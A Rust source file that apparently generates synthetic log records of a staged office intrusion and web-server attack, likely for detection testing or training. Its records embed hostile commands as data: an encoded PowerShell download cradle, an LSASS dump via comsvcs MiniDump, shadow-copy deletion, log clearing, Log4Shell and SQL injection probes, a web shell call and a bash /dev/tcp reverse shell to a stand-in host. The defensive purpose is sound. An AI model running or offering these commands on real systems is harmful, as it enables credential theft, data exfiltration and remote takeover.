//! One intrusion: a link in a mail, a program with a foothold, a look around, stolen passwords,
//! the way to the servers, files packed and sent out; and beside it an attack on the web server.

use super::records::{At, Office};

const PC: &str = "pc007.office.example";
const SERVER: &str = "fs01.office.example";
const USER: &str = "user007";
const ADDRESS: &str = "192.0.2.27";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";

pub(super) fn week(office: &mut Office) {
    let start = At {
        day: 0,
        secs: 2 * 3_600 + 49 * 60,
    };
    foothold(office, start);
    look_around(office, start.plus(1_800));
    spread(office, start.plus(5_400));
    take(office, start.plus(9_000));
    web_server(office, start.plus(600));
}

fn foothold(office: &mut Office, at: At) {
    office.proxied(
        at,
        ADDRESS,
        "GET",
        "http://198.51.100.77/share/opinion.exe",
        412_000,
        "application/x-dosexec",
    );
    let image = r"C:\Users\user007\AppData\Local\Temp\opinion.exe";
    office.windows(
        at.plus(20),
        SYSMON,
        11,
        PC,
        &[
            (
                "Image",
                r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
            ),
            ("TargetFilename", r"C:\Users\user007\Downloads\opinion.exe"),
        ],
    );
    office.process(
        at.plus(60),
        PC,
        USER,
        image,
        image,
        r"C:\Windows\explorer.exe",
    );
    office.windows(at.plus(62), SYSMON, 13, PC, &[
        ("EventType", "SetValue"), ("Image", image),
        ("TargetObject", r"HKU\S-1-5-21-1000-1000-1000-1107\Software\Microsoft\Windows\CurrentVersion\Run\Updater"),
        ("Details", r"C:\Users\user007\AppData\Roaming\updater.exe"),
    ]);
    office.process(at.plus(90), PC, USER, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcANwAvAGEAJwApAA==", image);
    for n in 0..40 {
        office.proxied(
            at.plus(120 + n * 60),
            ADDRESS,
            "POST",
            "http://198.51.100.77/cgi-bin/x.php",
            312,
            "text/plain",
        );
    }
}

fn look_around(office: &mut Office, at: At) {
    for (n, command) in (0_u32..).zip([
        "whoami /all",
        "net user /domain",
        r#"net group "Domain Admins" /domain"#,
        "nltest /domain_trusts",
        "systeminfo",
        "ipconfig /all",
        r"net view \\fs01",
    ]) {
        let name = command.split(' ').next().unwrap_or("cmd");
        office.process(
            at.plus(n * 15),
            PC,
            USER,
            &format!(r"C:\Windows\System32\{name}.exe"),
            command,
            CMD,
        );
    }
    office.process(
        at.plus(600),
        PC,
        USER,
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\l.dmp full",
        CMD,
    );
    office.windows(
        at.plus(601),
        SYSMON,
        10,
        PC,
        &[
            ("SourceImage", r"C:\Windows\System32\rundll32.exe"),
            ("TargetImage", r"C:\Windows\system32\lsass.exe"),
            ("GrantedAccess", "0x1fffff"),
            (
                "CallTrace",
                r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\comsvcs.dll+2a1b2",
            ),
        ],
    );
}

fn spread(office: &mut Office, at: At) {
    for n in 0..12_u32 {
        let host = format!("pc{:03}.office.example", 20 + n);
        office.logon(
            at.plus(n * 12),
            &host,
            "svc_backup",
            ADDRESS,
            "3",
            n % 4 != 3,
        );
        office.windows(
            at.plus(n * 12 + 3),
            "System",
            7_045,
            &host,
            &[
                ("ServiceName", "PSEXESVC"),
                ("ImagePath", r"%SystemRoot%\PSEXESVC.exe"),
                ("ServiceType", "user mode service"),
                ("StartType", "demand start"),
                ("AccountName", "LocalSystem"),
            ],
        );
    }
    office.process(
        at.plus(300),
        SERVER,
        "svc_backup",
        r"C:\Windows\System32\wbem\WMIC.exe",
        r#"wmic /node:fs01 process call create "cmd.exe /c whoami""#,
        CMD,
    );
}

fn take(office: &mut Office, at: At) {
    for n in 0..150_u32 {
        office.windows(
            at.plus(n * 2),
            "Security",
            5_145,
            SERVER,
            &[
                ("SubjectUserName", "svc_backup"),
                ("ShareName", r"\\*\pension_work"),
                ("RelativeTargetName", &format!(r"2026\case{n:04}.xlsx")),
                ("IpAddress", ADDRESS),
                ("AccessMask", "0x1"),
            ],
        );
    }
    office.process(
        at.plus(400),
        SERVER,
        "svc_backup",
        r"C:\Users\Public\rar.exe",
        r"rar.exe a -r -hpSecret123 -v100m C:\Users\Public\w.rar D:\pension_work",
        CMD,
    );
    office.process(
        at.plus(900),
        SERVER,
        "svc_backup",
        r"C:\Windows\System32\vssadmin.exe",
        "vssadmin delete shadows /all /quiet",
        CMD,
    );
    office.process(
        at.plus(930),
        SERVER,
        "svc_backup",
        r"C:\Windows\System32\wevtutil.exe",
        "wevtutil cl Security",
        CMD,
    );
    office.windows(
        at.plus(931),
        "Security",
        1_102,
        SERVER,
        &[("SubjectUserName", "svc_backup")],
    );
}

fn web_server(office: &mut Office, at: At) {
    let client = "203.0.113.200";
    for (n, path) in (0_u32..).zip([
        "/.git/config",
        "/.env",
        "/wp-login.php",
        "/phpmyadmin/",
        "/../../../../etc/passwd",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        "/search?q=1'%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
        "/?x=${jndi:ldap://198.51.100.9:1389/a}",
    ]) {
        office.request(
            at.plus(n),
            client,
            &format!("GET {path}"),
            404,
            "Mozilla/5.0 zgrab/0.x",
        );
    }
    office.request(
        at.plus(120),
        client,
        "POST /uploads/img.php",
        200,
        "python-requests/2.31",
    );
    office.request(
        at.plus(125),
        client,
        "GET /uploads/img.php?cmd=id",
        200,
        "python-requests/2.31",
    );
    office.execve(at.plus(125), 33, "/usr/bin/dash", &["sh", "-c", "id"]);
    office.execve(
        at.plus(140),
        33,
        "/usr/bin/bash",
        &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"],
    );
    for n in 0..60_u32 {
        office.syslog(
            at.plus(200 + n),
            &format!("sshd[{}]", 9_000 + n),
            &format!(
                "Failed password for root from 198.51.100.44 port {} ssh2",
                40_000 + n
            ),
        );
    }
    office.syslog(
        at.plus(270),
        "sshd[9100]",
        "Accepted password for root from 198.51.100.44 port 41000 ssh2",
    );
}
